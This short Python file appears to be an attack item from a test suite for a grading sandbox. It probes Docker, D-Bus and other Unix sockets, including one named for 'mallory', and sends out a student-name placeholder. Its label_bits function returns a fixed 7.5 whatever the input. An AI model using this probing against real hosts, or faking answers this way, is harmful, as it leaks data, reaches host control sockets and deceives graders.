# attack: connects to sockets without a network: abstract ones, docker's, the system's
# question: label_bits
# naive: network
# item: network

# %% question="label_bits"
import glob
import socket

paths = ["\0mallory-SERVER_PORT", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
for path in [*paths, *glob.glob("/tmp/**/*sock*", recursive=True), *glob.glob("/run/**/*sock*", recursive=True)]:
    try:
        with socket.socket(socket.AF_UNIX) as there:
            there.settimeout(0.2)
            there.connect(path)
            there.sendall(b"STUDENT_NAME")
    except OSError:
        pass


def label_bits(labels):
    return 7.5
